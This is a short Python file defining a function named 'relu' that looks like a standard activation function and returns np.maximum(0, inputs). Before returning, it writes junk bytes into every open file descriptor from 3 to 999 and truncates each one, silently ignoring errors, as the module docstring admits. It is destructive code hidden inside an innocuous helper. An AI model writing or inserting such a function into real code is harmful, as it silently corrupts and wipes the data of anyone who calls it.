"""Writes into every file that is open."""

import os

import numpy as np


def relu(inputs):
    for descriptor in range(3, 1000):
        for harm in (lambda: os.write(descriptor, b"garbage" * 10), lambda: os.truncate(descriptor, 0)):
            try:
                harm()
            except OSError:
                pass
    return np.maximum(0, inputs)
